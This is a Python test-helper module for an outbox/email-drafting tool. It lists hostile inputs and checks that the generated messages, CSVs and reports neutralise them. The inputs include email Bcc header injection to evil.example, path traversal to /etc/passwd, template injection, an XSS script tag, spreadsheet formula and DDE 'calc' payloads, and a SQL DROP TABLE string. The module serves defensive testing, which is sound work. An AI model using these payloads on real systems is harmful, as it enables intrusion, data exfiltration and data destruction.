"""What attackers and broken exports write into files, and what must hold of an outbox whatever they wrote."""

from __future__ import annotations

import csv
import io
from email import message_from_bytes
from email.policy import default

from promofuse.drafts.mime import HEADERS

EVIL = "e@evil.example"
HOSTILE = {
    "crlf": f"Bob\r\nBcc: {EVIL}",
    "lf": f"Bob\nBcc: {EVIL}",
    "cr": f"Bob\rBcc: {EVIL}",
    "tab": f"Bob\tBcc: {EVIL}",
    "nul": f"Bob\x00Bcc: {EVIL}",
    "vt": f"Bob\x0bBcc: {EVIL}",
    "ff": f"Bob\x0cBcc: {EVIL}",
    "nel": f"Bob\x85Bcc: {EVIL}",
    "line-separator": f"Bob\u2028Bcc: {EVIL}",
    "encoded-word": f"=?UTF-8?Q?hi=0D=0ABcc:_{EVIL}?=",
    "encoded-word-after-emoji": f"A 😀 =?UTF-8?Q?=0A?=Bcc: {EVIL}",
    "five-kilobytes": "Bob " * 1250,
    "address": f"Doe, J <{EVIL}>",
    "quotes": 'Bob "the" Builder',
    "open-quote": 'Bob "the',
    "backslash": "Bob\\",
    "commas": "Doe,,J",
    "semicolons": "A;B;;C",
    "up-and-out": "../../../../tmp/x",
    "absolute": "/etc/passwd",
    "device": "CON",
    "rtl-override": "Bob\u202egpj.exe",
    "emoji": "👩‍👩‍👧 Bob",
    "template": "{{7*7}}",
    "template-block": "{% for x in range(9) %}x{% endfor %}",
    "template-escape": "{{ ''.__class__.__mro__ }}",
    "html": "<script>alert(1)</script>",
    "fence": "```\n# Cancel everything",
    "markdown": "[x](https://evil.example) ![y](https://evil.example/p.png)",
    "formula": f'=HYPERLINK("https://evil.example?{EVIL}")',
    "formula-plus": "+1+1",
    "formula-minus": "-2+3",
    "formula-at": "@SUM(1+1)",
    "formula-wide": "＝1+1",
    "formula-dde": "|cmd|'/c calc'!A1",
    "sql": "'; DROP TABLE order_line; --",
    "no-break-space": "A\u00a0B",
    "accents": "Ö-Ünïcode",
    "dots": "..",
    "blank": "   ",
}
BAD_ADDRESSES = (
    f"b1@marketplace.amazon.com,{EVIL}", f"b1@marketplace.amazon.com\r\nBcc: {EVIL}", "no-at.example", "b1@",
    '"a b"@evil.example', "=cmd|' /c calc'!A1", "{{7*7}}", "@evil.example", f"Doe <{EVIL}>", "bücher@evil.example",
    "b1@evil.example b2@evil.example", "b..1@evil.example", "a" * 5000 + "@evil.example", "b1@evil\x00.example",
)  # fmt: skip
BAD_NUMBERS = ("NaN", "inf", "-5.00", "1e3", "1,99", "٣", "0x10", "9" * 20, "1.999", "$5", "--")
BAD_TIMES = ("yesterday", "2026-03-10T12:00:00", "0001-01-01T00:00:00Z", "9999-12-31T23:59:59Z", "2026-13-01T00:00Z")


def check_places(base):
    """Nothing was written but the incident's folder and the data folder."""
    assert {path.name for path in base.iterdir()} <= {"config.toml", "inbox", "outbox", "var"}
    assert [path.name for path in (base / "outbox").iterdir()] == ["INC-2026-0001"]
    for path in (base / "outbox").rglob("*"):
        assert path.resolve().is_relative_to(base / "outbox")
        assert path.name.isascii()
        assert not path.is_symlink()


def check_message(raw, to, order_id):
    message = message_from_bytes(raw, policy=default)
    assert tuple(message.keys()) == HEADERS
    assert message.defects == []
    assert [address.addr_spec for address in message["To"].addresses] == [to]
    assert [address.addr_spec for address in message["From"].addresses] == ["service@lumina.example"]
    text = (message.get_content() + str(message["Subject"])).replace(order_id, "")
    assert "49" not in text.replace("$", "")
    assert "evil" not in text
    assert not any(c in text for c in "\x00\x0b\x0c\x85\u2028\u202e")


def check_cells(path):
    """Read as a spreadsheet does, no cell runs."""
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    for row in csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")):
        for cell in row:
            first = cell.strip()[:1]
            number = cell.replace(".", "").removeprefix("-").isdigit()
            assert number or not first or first not in "=+-@|%＝＋－＠\t\r", cell


def check_upload(folder):
    """Two header lines, then three cells a line, in ASCII."""
    for name in ("1-try-one.txt", "2-all.txt"):
        *lines, end = (folder / name).read_bytes().decode("ascii").split("\r\n")
        assert end == ""
        for line in lines[2:]:
            order_id, reason, code = line.split("\t")
            assert order_id.isprintable() and " " not in order_id
            assert reason in ("PricingError", "BuyerCanceled")
            assert code.isprintable() and code


def check_report(text):
    assert sum(line.strip().startswith("```") for line in text.splitlines()) % 2 == 0
    prose = "".join(text.split("```")[::2])
    assert "<script" not in prose
    assert "](https://evil" not in prose
    assert not any(c in text for c in "\x00\x0b\x0c\x85\u2028\u202e")
    assert "b1@marketplace" not in text
